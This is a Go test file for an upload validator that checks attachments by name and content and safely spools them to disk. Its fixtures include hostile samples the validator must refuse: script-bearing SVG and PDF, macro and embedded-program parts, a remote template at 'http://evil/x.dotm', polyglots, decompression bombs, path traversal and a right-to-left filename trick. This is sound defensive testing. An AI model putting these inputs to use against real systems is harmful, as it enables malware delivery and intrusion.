package attach_test

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"errors"
	"hash/crc32"
	"image"
	"image/jpeg"
	"image/png"
	"io"
	"os"
	"strings"
	"testing"

	"nhipso/internal/attach"
	"nhipso/internal/fault"
)

// packed makes a package of parts, in order of pairs of a name and a content.
func packed(t *testing.T, pairs ...string) string {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i < len(pairs); i += 2 {
		w, err := z.Create(pairs[i])
		if err == nil {
			_, err = io.WriteString(w, pairs[i+1])
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

const (
	docxType = `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
	xlsxType = `<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`
	ole      = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1macro"
	pdf      = "%PDF-1.7\n1 0 obj <<>> endobj\nstartxref\n0\n%%EOF\n"
)

func docx(t *testing.T, more ...string) string {
	return packed(t, append([]string{"[Content_Types].xml", docxType, "word/document.xml", "<w:document/>"}, more...)...)
}

func picture(t *testing.T, write func(io.Writer, image.Image) error) string {
	t.Helper()
	var b bytes.Buffer
	if err := write(&b, image.NewGray(image.Rect(0, 0, 3, 2))); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// huge is the head of a picture that says it is as wide and high as no memory holds, with a right checksum.
func huge(t *testing.T) string {
	b := []byte(picture(t, png.Encode))
	binary.BigEndian.PutUint32(b[16:], 60000)
	binary.BigEndian.PutUint32(b[20:], 60000)
	binary.BigEndian.PutUint32(b[29:], crc32.ChecksumIEEE(b[12:29]))
	return string(b)
}

// TestAFileIsWhatItSaysOrRefused: by name and content together.
func TestAFileIsWhatItSaysOrRefused(t *testing.T) {
	jpg := picture(t, func(w io.Writer, m image.Image) error { return jpeg.Encode(w, m, nil) })
	pic := picture(t, png.Encode)
	lies := []byte(docx(t, "word/media/a.txt", strings.Repeat("a", 1000)))
	for name, x := range map[string]struct{ file, content, code string }{
		"a PDF":                          {"Báo cáo.pdf", pdf, ""},
		"a document":                     {"a.docx", docx(t, "word/media/image1.png", pic), ""},
		"a document with a table in it":  {"a.docx", docx(t, "word/embeddings/Microsoft_Excel_Sheet1.xlsx", packed(t, "a", "b")), ""},
		"a workbook":                     {"a.XLSX", packed(t, "[Content_Types].xml", xlsxType, "xl/workbook.xml", "<workbook/>", "xl/printerSettings/printerSettings1.bin", "abc"), ""},
		"a free text":                    {"a.odt", packed(t, "mimetype", "application/vnd.oasis.opendocument.text", "content.xml", "<x/>"), ""},
		"a free sheet":                   {"a.ods", packed(t, "mimetype", "application/vnd.oasis.opendocument.spreadsheet", "content.xml", "<x/>"), ""},
		"a text":                         {"a.txt", "\xef\xbb\xbfThủ tướng: “được”\r\n", ""},
		"a table":                        {"a.csv", "mã,tên\n1,<script>\n", ""},
		"a drawing":                      {"a.png", pic, ""},
		"a photograph":                   {"a.jpeg", jpg, ""},
		"nothing":                        {"a.txt", "", "attach.empty"},
		"a drawing called a photograph":  {"a.jpg", pic, "attach.other"},
		"a PDF called a text":            {"a.txt", pdf, "attach.active"},
		"a program called a PDF":         {"a.pdf", "MZ\x90\x00", "attach.other"},
		"a program called a text":        {"a.txt", "MZ\x90\x00\x03", "attach.other"},
		"a text in another encoding":     {"a.txt", "Th\xf9 t\xfdng", "attach.other"},
		"a page called a text":           {"a.txt", "  <!DOCTYPE html><p>", "attach.active"},
		"a drawing of the web":           {"a.txt", "<svg onload=alert(1)>", "attach.active"},
		"XML called a text":              {"a.csv", "<?xml version='1.0'?><svg/>", "attach.active"},
		"a script called a table":        {"a.csv", "#!/bin/sh\nrm", "attach.active"},
		"a PDF behind something":         {"a.pdf", "x" + pdf, "attach.other"},
		"a PDF with something behind":    {"a.pdf", pdf + "<script>", "attach.other"},
		"a PDF that is a page":           {"a.pdf", "%PDF-1.7\n<html><script>\n%%EOF", "attach.twofold"},
		"a PDF that is a package":        {"a.pdf", pdf + packed(t, "a", "%%EOF"), "attach.other"},
		"a PDF with a script":            {"a.pdf", "%PDF-1.7\n" + strings.Repeat(" ", 64<<10-12) + "/JavaScript (app.alert(1))\n%%EOF", "attach.active"},
		"a PDF with a program in it":     {"a.pdf", "%PDF-1.7\n/EmbeddedFile\n%%EOF", "attach.active"},
		"a PDF cut off":                  {"a.pdf", "%PDF-1.7\n1 0 obj", "attach.other"},
		"a drawing with a tail":          {"a.png", pic + "MZ", "attach.twofold"},
		"a drawing cut off":              {"a.png", pic[:len(pic)-6], "attach.other"},
		"a drawing larger than a memory": {"a.png", huge(t), "attach.bomb"},
		"a photograph with a tail":       {"a.jpg", jpg + "<?php", "attach.twofold"},
		"a photograph and a package":     {"a.jpg", jpg + docx(t), "attach.twofold"},
		"a document with macros":         {"a.docx", docx(t, "word/vbaProject.bin", ole), "attach.active"},
		"macros under another name":      {"a.docx", docx(t, "word/theme/theme1.bin", ole), "attach.active"},
		"macros only declared":           {"a.docx", packed(t, "[Content_Types].xml", strings.Replace(docxType, "document.main", "macroEnabled", 1)+docxType, "word/document.xml", "x"), "attach.active"},
		"a program in a document":        {"a.docx", docx(t, "word/media/a.exe", "x"), "attach.active"},
		"a program under another name":   {"a.docx", docx(t, "word/media/a.png", "MZ\x90"), "attach.active"},
		"an object in a document":        {"a.docx", docx(t, "word/embeddings/oleObject1.bin", "x"), "attach.active"},
		"a template from elsewhere":      {"a.docx", docx(t, "word/_rels/settings.xml.rels", `<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>`), "attach.active"},
		"macros in a free text":          {"a.odt", packed(t, "mimetype", "application/vnd.oasis.opendocument.text", "content.xml", "x", "Basic/Standard/Module1.xml", "x"), "attach.active"},
		"a workbook called a document":   {"a.docx", packed(t, "[Content_Types].xml", xlsxType, "xl/workbook.xml", "x"), "attach.other"},
		"a sheet called a text":          {"a.odt", packed(t, "mimetype", "application/vnd.oasis.opendocument.spreadsheet", "content.xml", "x"), "attach.other"},
		"any package":                    {"a.docx", packed(t, "a", "b"), "attach.other"},
		"a package behind something":     {"a.docx", "GIF89a" + docx(t), "attach.other"},
		"a package with a tail":          {"a.docx", docx(t) + "x", "attach.other"},
		"a part twice":                   {"a.docx", docx(t, "word/a.xml", "1", "WORD/a.xml", "2"), "attach.twofold"},
		"a bomb":                         {"a.docx", docx(t, "word/media/a.txt", strings.Repeat("a", 20<<20)), "attach.bomb"},
		"a part that lies of its size":   {"a.docx", string(bytes.ReplaceAll(lies, []byte{0xe8, 0x03, 0, 0}, []byte{1, 0, 0, 0})), "attach.other"},
		"a page":                         {"a.html", "<p>", "attach.ending"},
		"a workbook that may hold code":  {"a.xlsm", "x", "attach.ending"},
	} {
		kind, err := attach.Check(x.file, strings.NewReader(x.content), int64(len(x.content)))
		if fault.CodeOf(err) != x.code || err == nil && kind == "" || err != nil && fault.CodeOf(err) == "" {
			t.Errorf("%s: %q, %v; want %q", name, kind, err, x.code)
		}
	}
}

func TestNames(t *testing.T) {
	for sent, want := range map[string]string{
		"Báo cáo quý III.pdf":            "Báo cáo quý III.pdf",
		`C:\Users\lan\Kế hoạch.docx`:     "Kế hoạch.docx",
		"../../etc/a.txt":                "a.txt",
		"Quyết định.PDF":                 "Quyết định.PDF",
		"Ke\u0302\u0301 hoa\u0323ch.txt": "Kế hoạch.txt",
	} {
		if got, err := attach.Name(sent); err != nil || got != want {
			t.Errorf("%q is %q, %v; want %q", sent, got, err, want)
		}
	}
	for _, sent := range []string{"", "a", ".pdf", "a.exe", "a.pdf.js", "a.pdf\x00", "a\u202efdp.exe.pdf", "a\nb.pdf", "a\xff.pdf", `a"b.pdf`, strings.Repeat("a", 200) + ".pdf", "a.svg", "a.docm"} {
		if got, err := attach.Name(sent); err == nil {
			t.Errorf("%q is taken as %q", sent, got)
		}
	}
}

// TestWhatIsSentIsTakenWholeOrNotAtAll, and nothing of it is left in the folder.
func TestWhatIsSentIsTakenWholeOrNotAtAll(t *testing.T) {
	dir := t.TempDir()
	empty := func() bool {
		left, err := os.ReadDir(dir)
		return err == nil && len(left) == 0
	}
	s, err := attach.Spool(dir, strings.NewReader("abc"), 3)
	if err != nil || s.Size != 3 || s.SHA256 != "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad" {
		t.Fatalf("%v, %v", s, err)
	}
	if b, err := io.ReadAll(io.NewSectionReader(s, 0, s.Size)); err != nil || string(b) != "abc" {
		t.Errorf("%q, %v", b, err)
	}
	if err := s.Close(); err != nil || !empty() {
		t.Errorf("%v; is the folder empty: %t", err, empty())
	}
	if _, err := attach.Spool(dir, strings.NewReader("abcd"), 3); fault.CodeOf(err) != "attach.too-large" || !empty() {
		t.Errorf("more than may be: %v", err)
	}
	broken := io.MultiReader(strings.NewReader("ab"), iotestErr{})
	if _, err := attach.Spool(dir, broken, 9); fault.CodeOf(err) != "attach.broken-off" || !empty() {
		t.Errorf("broken off: %v", err)
	}
	if _, err := attach.Spool(dir+"/none", strings.NewReader("a"), 3); fault.CodeOf(err) != "attach.no-room" {
		t.Errorf("without a folder: %v", err)
	}
}

type iotestErr struct{}

func (iotestErr) Read([]byte) (int, error) { return 0, errors.New("gone") }
